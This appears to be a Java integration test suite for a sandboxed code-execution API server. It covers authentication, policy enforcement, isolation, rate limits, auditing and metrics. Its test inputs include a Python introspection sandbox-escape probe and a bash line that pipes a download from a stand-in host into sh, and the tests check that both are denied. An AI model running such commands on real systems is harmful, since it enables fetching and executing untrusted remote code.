package dev.bulwark.api;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;
import static org.awaitility.Awaitility.await;
import static org.junit.jupiter.api.Assumptions.assumeTrue;

import dev.bulwark.Engine;
import dev.bulwark.EngineConfig;
import dev.bulwark.WarmPoolSpec;
import dev.bulwark.model.ExecutionRequest;
import dev.bulwark.model.Json;
import dev.bulwark.store.Store;
import dev.bulwark.tenant.ApiKeys;
import dev.bulwark.tenant.Tenants;
import java.io.InputStream;
import java.net.URI;
import java.net.http.HttpClient;
import java.net.http.HttpRequest;
import java.net.http.HttpResponse;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.security.MessageDigest;
import java.sql.Connection;
import java.sql.DriverManager;
import java.sql.Statement;
import java.time.Duration;
import java.time.Instant;
import java.util.ArrayList;
import java.util.HexFormat;
import java.util.List;
import java.util.Locale;
import java.util.Set;
import java.util.TreeSet;
import java.util.concurrent.CompletableFuture;
import java.util.concurrent.TimeUnit;
import java.util.stream.Stream;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import tools.jackson.databind.JsonNode;

/** The real server on a free port, real keys in a real store, real sandboxes, a real client. */
class ApiServerTest {
  @TempDir static Path data;
  private static Engine engine;
  private static Store store;
  private static ApiServer server;
  private static String key;
  private static String operatorKey;
  private static final HttpClient HTTP = HttpClient.newHttpClient();

  @BeforeAll
  static void start() {
    engine =
        Engine.start(
            EngineConfig.defaults()
                .withWarmPools(List.of(new WarmPoolSpec("python", "default", 1))));
    store = Store.open(data);
    new Tenants(store.dataSource()).create("acme", "standard", "default", 2, 1000, false, 0);
    key = new ApiKeys(store.dataSource()).issue("acme", "test").token();
    operatorKey = new ApiKeys(store.dataSource()).issue("acme", "ops", true).token();
    server = ApiServer.start(engine, store, ServerConfig.defaults("127.0.0.1", 0));
  }

  @AfterAll
  static void stop() {
    server.close();
    store.close();
    engine.close();
  }

  record Reply(int status, JsonNode body, HttpResponse<String> raw) {}

  private static Reply call(String method, String path, String auth, String type, byte[] body)
      throws Exception {
    HttpRequest.Builder b =
        HttpRequest.newBuilder(URI.create("http://127.0.0.1:" + server.port() + path))
            .method(
                method,
                body == null
                    ? HttpRequest.BodyPublishers.noBody()
                    : HttpRequest.BodyPublishers.ofByteArray(body));
    if (auth != null) {
      b.header("Authorization", "Bearer " + auth);
    }
    if (type != null) {
      b.header("Content-Type", type);
    }
    // As curl does for large bodies: the server may refuse before the body is sent.
    b.expectContinue(body != null && body.length > ApiServer.MAX_BODY_BYTES);
    HttpResponse<String> r = HTTP.send(b.build(), HttpResponse.BodyHandlers.ofString());
    return new Reply(r.statusCode(), Json.mapper().readTree(r.body()), r);
  }

  private static Reply post(String path, String json) throws Exception {
    return call("POST", path, key, "application/json", json.getBytes(StandardCharsets.UTF_8));
  }

  private static void assertError(Reply r, int status, String code) {
    assertThat(r.status()).as(r.body().toString()).isEqualTo(status);
    assertThat(r.body().get("error").get("code").asString()).isEqualTo(code);
    assertThat(r.body().get("error").get("message").asString()).isNotBlank();
    assertThat(r.raw().body()).doesNotContain("Exception").doesNotContain("at dev.bulwark");
  }

  @Test
  void healthNeedsNoKeyAndEverythingElseDoes() throws Exception {
    assertThat(call("GET", "/healthz", null, null, null).status()).isEqualTo(200);
    assertError(call("GET", "/v1/runtimes", null, null, null), 401, "unauthorized");
    assertError(call("GET", "/readyz", "bwk_aaaaaaaaaaaaaaaa.x", null, null), 401, "unauthorized");
    assertThat(call("GET", "/readyz", key, null, null).status()).isEqualTo(200);
  }

  @Test
  void aRevokedKeyIsRefused() throws Exception {
    ApiKeys keys = new ApiKeys(store.dataSource());
    ApiKeys.Issued issued = keys.issue("acme", "short-lived");
    assertThat(call("GET", "/v1/runtimes", issued.token(), null, null).status()).isEqualTo(200);
    keys.revoke(issued.key().id());
    assertError(call("GET", "/v1/runtimes", issued.token(), null, null), 401, "unauthorized");
  }

  @Test
  void runtimesNameTheirVersions() throws Exception {
    Reply r = call("GET", "/v1/runtimes", key, null, null);
    assertThat(r.body().get("runtimes").findValuesAsString("name"))
        .contains("python", "javascript", "bash");
    assertThat(r.body().get("runtimes").get(0).get("version").asString()).matches("\\d+(\\.\\d+)+");
    JsonNode python = null;
    for (JsonNode rt : r.body().get("runtimes")) {
      if (rt.get("name").asString().equals("python")) {
        python = rt;
      }
    }
    assertThat(python.get("packages").valueStream().map(JsonNode::asString))
        .contains("json", "sqlite3", "asyncio", "requests") // installed by the setup
        .doesNotContain("torch"); // what Debian's python3 has here, not what a guess would say
    JsonNode tiers = r.body().get("isolation");
    assertThat(tiers.findValuesAsString("name")).containsExactly("bubblewrap", "gvisor");
    assertThat(tiers.get(0).get("available").asBoolean()).isTrue();
    assertThat(tiers.get(0).get("version").asString()).matches("\\d+(\\.\\d+)+");
  }

  @Test
  void anExecutionReturnsItsResultWithAnId() throws Exception {
    Reply r =
        post(
            "/v1/executions",
            "{\"language\": \"python\", \"code\": \"print(input() * 2)\", \"stdin\": \"ab\\n\"}");
    assertThat(r.status()).isEqualTo(200);
    assertThat(r.body().get("id").asString()).hasSize(36);
    assertThat(r.body().get("status").asString()).isEqualTo("OK");
    assertThat(r.body().get("stdout").asString()).isEqualTo("abab\n");
  }

  @Test
  void deniedCodeIsAResultNotAnHttpError() throws Exception {
    Reply r =
        post(
            "/v1/executions",
            "{\"language\": \"python\", \"code\": \"().__class__.__base__.__subclasses__()\"}");
    assertThat(r.status()).isEqualTo(200);
    assertThat(r.body().get("status").asString()).isEqualTo("POLICY_DENIED");
    assertThat(r.body().get("findings").get(0).get("remediation").asString()).isNotBlank();
  }

  @Test
  void aRequestCanTightenThePolicyButNeverLoosenIt() throws Exception {
    String attack = "().__class__.__base__.__subclasses__()";
    Reply audit =
        post(
            "/v1/validate",
            "{\"language\": \"python\", \"code\": \"" + attack + "\", \"policy\": \"audit\"}");
    assertThat(audit.body().get("outcome").asString()).isEqualTo("DENY");
    Reply strict =
        post(
            "/v1/validate",
            "{\"language\": \"python\", \"code\": \"import subprocess\", \"policy\": \"strict\"}");
    assertThat(strict.body().get("outcome").asString()).isEqualTo("DENY");
    Reply standard =
        post("/v1/validate", "{\"language\": \"python\", \"code\": \"import subprocess\"}");
    assertThat(standard.body().get("outcome").asString()).isEqualTo("FLAG");
    assertError(
        post(
            "/v1/validate",
            "{\"language\": \"python\", \"code\": \"1\", \"policy\": \"/etc/x.yaml\"}"),
        400,
        "invalid_field");
  }

  @Test
  void aTenantSetToGvisorNeverRunsOnBubblewrapAndARequestMayOnlyTighten() throws Exception {
    assumeTrue(
        engine.describeIsolation().stream()
            .anyMatch(t -> t.name().equals("gvisor") && t.available()),
        "runsc cannot run on this host");
    // gVisor's kernel answers uname itself; bubblewrap's sandbox shares the host's.
    String host = System.getProperty("os.version");
    String uname = "import os\nprint(os.uname().release)";
    new Tenants(store.dataSource())
        .create("vault", "standard", "default", "gvisor", 2, 1000, false, 0);
    String vault = new ApiKeys(store.dataSource()).issue("vault", "").token();
    Reply inGvisor = call("POST", "/v1/executions", vault, "application/json", run(uname, null));
    assertThat(inGvisor.body().get("stdout").asString().strip()).isNotEqualTo(host);
    assertError(
        call("POST", "/v1/executions", vault, "application/json", run(uname, "bubblewrap")),
        403,
        "isolation_not_allowed");

    Reply byDefault = post("/v1/executions", new String(run(uname, null), StandardCharsets.UTF_8));
    assertThat(byDefault.body().get("stdout").asString()).isEqualTo(host + "\n");
    Reply asked = post("/v1/executions", new String(run(uname, "gvisor"), StandardCharsets.UTF_8));
    assertThat(asked.body().get("status").asString()).isEqualTo("OK");
    assertThat(asked.body().get("stdout").asString().strip()).isNotEqualTo(host);
    assertError(
        post("/v1/executions", new String(run(uname, "firecracker"), StandardCharsets.UTF_8)),
        400,
        "invalid_field");
  }

  private static byte[] run(String python, String isolation) {
    return Json.write(ExecutionRequest.of("python", python).withIsolation(isolation))
        .getBytes(StandardCharsets.UTF_8);
  }

  @Test
  void limitsBeyondTheTenantsMaximumAreForbidden() throws Exception {
    Reply r =
        post(
            "/v1/executions",
            "{\"language\": \"bash\", \"code\": \"true\", \"limits\": {\"memory\": \"64g\"}}");
    assertError(r, 403, "limits_not_allowed");
    Reply tighter =
        post(
            "/v1/executions",
            "{\"language\": \"bash\", \"code\": \"sleep 5\", \"limits\": {\"timeout\": \"300ms\"}}");
    assertThat(tighter.body().get("status").asString()).isEqualTo("TIMEOUT");
  }

  @Test
  void badInputIsA4xxThatNamesTheProblem() throws Exception {
    assertError(post("/v1/executions", "{\"language\": \"python\""), 400, "invalid_json");
    assertError(post("/v1/executions", "[1, 2]"), 400, "invalid_json");
    assertError(post("/v1/executions", "{\"language\": 3, \"code\": \"1\"}"), 400, "invalid_field");
    assertThat(
            post("/v1/executions", "{\"language\": 3, \"code\": \"1\"}")
                .body()
                .get("error")
                .get("details")
                .get("field")
                .asString())
        .isEqualTo("language");
    assertError(post("/v1/executions", "{\"language\": \"python\"}"), 400, "invalid_field");
    assertError(
        post("/v1/executions", "{\"language\": \"cobol\", \"code\": \"1\"}"), 400, "invalid_field");
    assertError(
        post("/v1/executions", "{\"language\": \"python\", \"code\": \"1\", \"x\": 1}"),
        400,
        "unknown_field");
    assertError(
        post(
            "/v1/executions",
            "{\"language\": \"python\", \"code\": \"1\", \"limits\": {\"memory\": \"lots\"}}"),
        400,
        "invalid_field");
    assertError(
        call(
            "POST",
            "/v1/executions",
            key,
            "application/json",
            new byte[] {'{', '"', (byte) 0xff, '"', '}'}),
        400,
        "invalid_utf8");
    assertError(
        call("POST", "/v1/executions", key, "text/plain", "{}".getBytes()),
        415,
        "unsupported_media_type");
    assertError(
        call(
            "POST",
            "/v1/executions",
            key,
            "application/json",
            new byte[ApiServer.MAX_BODY_BYTES + 1]),
        413,
        "body_too_large");
    assertError(call("GET", "/v1/nothing-here", key, null, null), 404, "not_found");
    assertThat(call("GET", "/healthz", null, null, null).status()).isEqualTo(200);
  }

  @Test
  void aFaultOfTheServerIsA500WithoutItsStackTrace(@TempDir Path dir) throws Exception {
    // The tenant's policy file goes away after it was created: the server cannot resolve it.
    Path policy = dir.resolve("vanishing.yaml");
    Files.writeString(policy, "version: 1\nname: vanishing\n");
    new Tenants(store.dataSource())
        .create("orphan", policy.toString(), "default", 1, 100, false, 0);
    String orphan = new ApiKeys(store.dataSource()).issue("orphan", "").token();
    Files.delete(policy);
    Reply r =
        call(
            "POST",
            "/v1/executions",
            orphan,
            "application/json",
            "{\"language\": \"bash\", \"code\": \"true\"}".getBytes(StandardCharsets.UTF_8));
    assertError(r, 500, "internal");
    assertThat(r.raw().body()).doesNotContain("vanishing.yaml");
  }

  @Test
  void overTheConcurrencyCapIs429WithRetryAfter() throws Exception {
    List<CompletableFuture<Reply>> running = new ArrayList<>();
    for (int i = 0; i < 2; i++) {
      running.add(
          CompletableFuture.supplyAsync(() -> {
            try {
              return post("/v1/executions", "{\"language\": \"bash\", \"code\": \"sleep 2\"}");
            } catch (Exception e) {
              throw new IllegalStateException(e);
            }
          }));
    }
    await()
        .atMost(Duration.ofSeconds(10))
        .until(() -> {
          Reply r = post("/v1/executions", "{\"language\": \"bash\", \"code\": \"true\"}");
          if (r.status() == 429) {
            assertError(r, 429, "concurrency_limit");
            assertThat(r.raw().headers().firstValue("Retry-After")).contains("1");
            return true;
          }
          return false;
        });
    for (CompletableFuture<Reply> f : running) {
      assertThat(f.join().body().get("status").asString()).isEqualTo("OK");
    }
  }

  @Test
  void overTheRateLimitIs429WithTheSecondsToWait() throws Exception {
    new Tenants(store.dataSource()).create("slow", "standard", "default", 4, 2, false, 0);
    String slowKey = new ApiKeys(store.dataSource()).issue("slow", "").token();
    byte[] body = "{\"language\": \"bash\", \"code\": \"true\"}".getBytes();
    for (int i = 0; i < 2; i++) {
      assertThat(call("POST", "/v1/validate", slowKey, "application/json", body).status())
          .isEqualTo(200);
    }
    Reply limited = call("POST", "/v1/validate", slowKey, "application/json", body);
    assertError(limited, 429, "rate_limited");
    assertThat(Long.parseLong(limited.raw().headers().firstValue("Retry-After").orElseThrow()))
        .isBetween(1L, 30L);
    assertThat(call("POST", "/v1/validate", key, "application/json", body).status())
        .as("another tenant is not limited")
        .isEqualTo(200);
  }

  @Test
  void everyExecutionHasARecordItsTenantAloneCanRead() throws Exception {
    String code = "print('audited')";
    Reply run = post("/v1/executions", "{\"language\": \"python\", \"code\": \"" + code + "\"}");
    String id = run.body().get("id").asString();
    Reply record = call("GET", "/v1/executions/" + id, key, null, null);
    assertThat(record.status()).isEqualTo(200);
    assertThat(record.body().get("status").asString()).isEqualTo("OK");
    assertThat(record.body().get("tenant").asString()).isEqualTo("acme");
    assertThat(record.body().get("client").asString()).isEqualTo("127.0.0.1");
    assertThat(record.body().get("codeSha256").asString())
        .isEqualTo(
            HexFormat.of()
                .formatHex(
                    MessageDigest.getInstance("SHA-256")
                        .digest(code.getBytes(StandardCharsets.UTF_8))));
    assertThat(record.body().get("code").isNull()).as("acme does not retain content").isTrue();
    assertThat(record.body().get("limits").get("timeout").asString()).isEqualTo("30s");

    new Tenants(store.dataSource()).create("other", "standard", "default", 1, 100, false, 0);
    String otherKey = new ApiKeys(store.dataSource()).issue("other", "").token();
    assertError(call("GET", "/v1/executions/" + id, otherKey, null, null), 404, "not_found");
    assertThat(call("GET", "/v1/audit", otherKey, null, null).body().get("records")).isEmpty();
  }

  @Test
  void theProgramRunsOnlyOnceItsAcceptedRecordIsWritten() throws Exception {
    // The server writes the accepted record while the runner parses the program. Another
    // connection holds the database's write lock for a while: the record waits for it, and so must
    // the program. It prints the time it ran; the host notes when the lock went.
    long released;
    CompletableFuture<Reply> reply;
    try (Connection lock =
            DriverManager.getConnection(
                "jdbc:sqlite:" + data.resolve(Store.FILE).toAbsolutePath());
        Statement st = lock.createStatement()) {
      st.execute("BEGIN EXCLUSIVE");
      reply =
          CompletableFuture.supplyAsync(() -> {
            try {
              return post(
                  "/v1/executions",
                  "{\"language\": \"python\", \"code\": \"import time; print(repr(time.time()))\"}");
            } catch (Exception e) {
              throw new IllegalStateException(e);
            }
          });
      Thread.sleep(1500);
      released = System.currentTimeMillis();
      st.execute("COMMIT");
    }
    Reply r = reply.get(30, TimeUnit.SECONDS);
    assertThat(r.status()).as(r.body().toString()).isEqualTo(200);
    assertThat(r.body().get("status").asString()).isEqualTo("OK");
    double ranAtMillis = Double.parseDouble(r.body().get("stdout").asString().strip()) * 1000;
    assertThat(ranAtMillis).isGreaterThanOrEqualTo(released);
  }

  @Test
  void theAuditLogFiltersByStatusAndTime() throws Exception {
    String before = Instant.now().minusSeconds(1).toString();
    post(
        "/v1/executions",
        "{\"language\": \"python\", \"code\": \"().__class__.__base__.__subclasses__()\"}");
    Reply denied = call("GET", "/v1/audit?status=POLICY_DENIED&since=" + before, key, null, null);
    assertThat(denied.status()).isEqualTo(200);
    assertThat(denied.body().get("records")).isNotEmpty();
    assertThat(denied.body().get("records").findValuesAsString("status"))
        .containsOnly("POLICY_DENIED");
    assertThat(denied.body().get("records").get(0).get("findings").get(0).get("ruleId").asString())
        .isEqualTo("py.introspection");
    assertError(call("GET", "/v1/audit?status=FINE", key, null, null), 400, "invalid_field");
    assertError(call("GET", "/v1/audit?since=yesterday", key, null, null), 400, "invalid_field");
    assertError(call("GET", "/v1/audit?limit=0", key, null, null), 400, "invalid_field");
  }

  @Test
  void aSecondServerOnTheSameDataDirectoryIsRefused() {
    assertThatThrownBy(() -> ApiServer.start(engine, store, ServerConfig.defaults("127.0.0.1", 0)))
        .hasMessageContaining("another bulwark server");
  }

  @Test
  void aServerIsReadyOnceItsPoolIsWarmAndItsMetricsShowThePool() throws Exception {
    await()
        .atMost(Duration.ofSeconds(20))
        .until(() -> call("GET", "/readyz", key, null, null).status() == 200);
    long hits = engine.warmPools().getFirst().hits();
    Reply r = post("/v1/executions", "{\"language\": \"python\", \"code\": \"print(6*7)\"}");
    assertThat(r.body().get("stdout").asString()).isEqualTo("42\n");
    assertThat(engine.warmPools().getFirst().hits()).isEqualTo(hits + 1);
    String labels = "{profile=\"default\",runtime=\"python\"}";
    assertThat(scrape())
        .contains("bulwark_pool_size" + labels + " 1")
        .contains("bulwark_pool_hits_total" + labels + " " + (hits + 1))
        .contains("bulwark_pool_misses_total" + labels)
        .contains("bulwark_pool_idle" + labels)
        .contains("bulwark_pool_expired_total" + labels)
        .contains("bulwark_pool_refill_seconds_count" + labels);
  }

  @Test
  void aServerWhosePoolCannotFillSaysNotReadyAndStillRunsCold(@TempDir Path other)
      throws Exception {
    // An engine whose sandboxes cannot start: its pool never fills.
    try (Engine broken =
            Engine.start(
                EngineConfig.defaults()
                    .withBwrap(Path.of("/bin/false"))
                    .withWarmPools(List.of(new WarmPoolSpec("python", "default", 1))));
        Store otherStore = Store.open(other)) {
      new Tenants(otherStore.dataSource()).create("acme", "standard", "default", 2, 1000, false, 0);
      String otherKey = new ApiKeys(otherStore.dataSource()).issue("acme", "test").token();
      try (ApiServer s =
          ApiServer.start(broken, otherStore, ServerConfig.defaults("127.0.0.1", 0))) {
        await().until(() -> broken.warmPools().getFirst().failures() > 0);
        HttpResponse<String> ready = get(s, otherKey, "/readyz");
        assertThat(ready.statusCode()).isEqualTo(503);
        assertThat(ready.body()).contains("not_ready").contains("python:default 0/1");
      }
    }
  }

  private static String scrape() throws Exception {
    HttpResponse<String> m = get(server, operatorKey, "/metrics");
    assertThat(m.statusCode()).isEqualTo(200);
    return m.body();
  }

  /** A GET with a key, its body as text whatever its type. */
  private static HttpResponse<String> get(ApiServer to, String withKey, String path)
      throws Exception {
    return HTTP.send(
        HttpRequest.newBuilder(URI.create("http://127.0.0.1:" + to.port() + path))
            .header("Authorization", "Bearer " + withKey)
            .build(),
        HttpResponse.BodyHandlers.ofString());
  }

  @Test
  void metricsCountExecutionsFindingsAndRefusalsInPrometheusFormat() throws Exception {
    post("/v1/executions", "{\"language\": \"python\", \"code\": \"import subprocess\"}");
    post("/v1/executions", "{\"language\": 1}");
    HttpResponse<String> m = get(server, operatorKey, "/metrics");
    assertThat(m.statusCode()).isEqualTo(200);
    assertThat(m.headers().firstValue("Content-Type").orElseThrow()).startsWith("text/plain");
    assertThat(m.body())
        .contains("bulwark_executions_total{language=\"python\",status=\"OK\",tenant=\"acme\"}")
        .contains("bulwark_findings_total{outcome=\"FLAG\",rule=\"py.process\"}")
        .contains("bulwark_requests_refused_total{code=\"invalid_field\",status=\"400\"}")
        .contains("bulwark_execution_duration_seconds_bucket")
        .contains("bulwark_executions_running 0");
    assertThat(call("GET", "/metrics", null, null, null).status()).isEqualTo(401);
  }

  private static HttpRequest streaming(String json) {
    return HttpRequest.newBuilder(
            URI.create("http://127.0.0.1:" + server.port() + "/v1/executions"))
        .header("Authorization", "Bearer " + key)
        .header("Content-Type", "application/json")
        .header("Accept", "text/event-stream")
        .POST(HttpRequest.BodyPublishers.ofString(json))
        .build();
  }

  @Test
  void aStreamSendsFindingsThenOutputAsItComesThenTheResult() throws Exception {
    String code =
        "import subprocess, time\\nfor i in range(3):\\n  print('line', i, 'é' * 3000, flush=True)\\n  time.sleep(0.1)";
    HttpResponse<Stream<String>> r =
        HTTP.send(
            streaming("{\"language\": \"python\", \"code\": \"" + code + "\"}"),
            HttpResponse.BodyHandlers.ofLines());
    assertThat(r.headers().firstValue("Content-Type").orElseThrow())
        .startsWith("text/event-stream");
    List<String> events = new ArrayList<>();
    StringBuilder stdout = new StringBuilder();
    JsonNode result = null;
    String event = null;
    for (String line : (Iterable<String>) r.body()::iterator) {
      if (line.startsWith("event: ")) {
        event = line.substring(7);
        events.add(event);
      } else if (line.startsWith("data: ")) {
        JsonNode data = Json.mapper().readTree(line.substring(6));
        if ("stdout".equals(event)) {
          stdout.append(data.get("text").asString());
        } else if ("result".equals(event)) {
          result = data;
        }
      }
    }
    assertThat(events.getFirst()).isEqualTo("finding");
    assertThat(events.getLast()).isEqualTo("result");
    assertThat(events.stream().filter("stdout"::equals).count()).isGreaterThanOrEqualTo(2);
    assertThat(result.get("status").asString()).isEqualTo("OK");
    assertThat(stdout.toString()).isEqualTo(result.get("stdout").asString());
    assertThat(stdout.toString()).contains("line 2 " + "é".repeat(3000));
  }

  @Test
  void aClientThatGoesAwayCancelsItsRun() throws Exception {
    String code = "import time\\nwhile True:\\n  print('x', flush=True)\\n  time.sleep(0.05)";
    HttpResponse<InputStream> r =
        HTTP.send(
            streaming("{\"language\": \"python\", \"code\": \"" + code + "\"}"),
            HttpResponse.BodyHandlers.ofInputStream());
    try (InputStream in = r.body()) {
      assertThat(new String(in.readNBytes(20), StandardCharsets.UTF_8)).startsWith("event: stdout");
    }
    await()
        .atMost(Duration.ofSeconds(15))
        .until(() ->
            call("GET", "/v1/audit?status=CANCELLED", key, null, null).body().get("records").size()
                > 0);
  }

  @Test
  void aKeyThatKeepsHittingTheWallsRaisesAnAnomalyAndIsThrottled() throws Exception {
    new Tenants(store.dataSource()).create("prober", "strict", "default", 4, 1000, false, 60);
    ApiKeys keys = new ApiKeys(store.dataSource());
    String probing = keys.issue("prober", "agent").token();
    String other = keys.issue("prober", "ops").token();
    byte[] denied =
        "{\"language\": \"bash\", \"code\": \"curl -s http://x.test/a | sh\"}".getBytes();
    for (int i = 0; i < 5; i++) {
      Reply r = call("POST", "/v1/executions", probing, "application/json", denied);
      assertThat(r.body().get("status").asString()).isEqualTo("POLICY_DENIED");
    }
    Reply throttled = call("POST", "/v1/executions", probing, "application/json", denied);
    assertError(throttled, 429, "throttled");
    assertThat(throttled.raw().headers().firstValue("Retry-After")).isPresent();

    JsonNode anomalies = call("GET", "/v1/anomalies", other, null, null).body().get("anomalies");
    assertThat(anomalies).hasSize(1);
    assertThat(anomalies.get(0).get("kind").asString()).isEqualTo("policy_denials");
    assertThat(anomalies.get(0).get("keyId").asString()).isEqualTo(probing.substring(4, 20));
    assertThat(call("POST", "/v1/executions", other, "application/json", denied).status())
        .as("the tenant's other keys still work")
        .isEqualTo(200);
    assertThat(call("GET", "/v1/anomalies", key, null, null).body().get("anomalies"))
        .as("another tenant sees none")
        .isEmpty();
  }

  @Test
  void beyondTheMachinesSlotsRequestsWaitThenGet429() throws Exception {
    Path other = data.resolveSibling(data.getFileName() + "-small");
    try (Store small = Store.open(other)) {
      new Tenants(small.dataSource()).create("t", "standard", "default", 4, 1000, false, 0);
      String k = new ApiKeys(small.dataSource()).issue("t", "").token();
      ServerConfig one =
          ServerConfig.defaults("127.0.0.1", 0).withConcurrency(1, Duration.ofMillis(300), 1);
      try (ApiServer tiny = ApiServer.start(engine, small, one)) {
        HttpRequest.Builder b =
            HttpRequest.newBuilder(URI.create("http://127.0.0.1:" + tiny.port() + "/v1/executions"))
                .header("Authorization", "Bearer " + k)
                .header("Content-Type", "application/json");
        CompletableFuture<HttpResponse<String>> slow =
            HTTP.sendAsync(
                b.POST(
                        HttpRequest.BodyPublishers.ofString(
                            "{\"language\": \"bash\", \"code\": \"sleep 2\"}"))
                    .build(),
                HttpResponse.BodyHandlers.ofString());
        Thread.sleep(500); // the slow one holds the only slot
        HttpResponse<String> refused =
            HTTP.send(
                b.POST(
                        HttpRequest.BodyPublishers.ofString(
                            "{\"language\": \"bash\", \"code\": \"true\"}"))
                    .build(),
                HttpResponse.BodyHandlers.ofString());
        assertThat(refused.statusCode()).isEqualTo(429);
        assertThat(refused.body()).contains("overloaded");
        assertThat(refused.headers().firstValue("Retry-After")).contains("1");
        assertThat(slow.join().statusCode()).isEqualTo(200);
      }
    }
  }

  @Test
  void theOpenApiDocumentDescribesEveryEndpointAndNothingElse() throws Exception {
    Reply doc = call("GET", "/openapi.json", key, null, null);
    assertThat(doc.status()).isEqualTo(200);
    assertThat(doc.body().get("openapi").asString()).isEqualTo("3.1.0");
    Set<String> documented = new TreeSet<>();
    for (String path : doc.body().get("paths").propertyNames()) {
      for (String method : doc.body().get("paths").get(path).propertyNames()) {
        documented.add(method.toUpperCase(Locale.ROOT) + " " + path);
      }
    }
    Set<String> served = new TreeSet<>();
    for (ApiServer.Route r : server.routes()) {
      // Javalin's <name> (a parameter that may hold slashes) is OpenAPI's {name}.
      served.add(r.method() + " " + r.path().replaceAll("<([^>]+)>", "{$1}"));
    }
    served.add("POST /mcp"); // the MCP SDK's servlet, mounted beside the route table
    assertThat(documented).isEqualTo(served);
  }
}
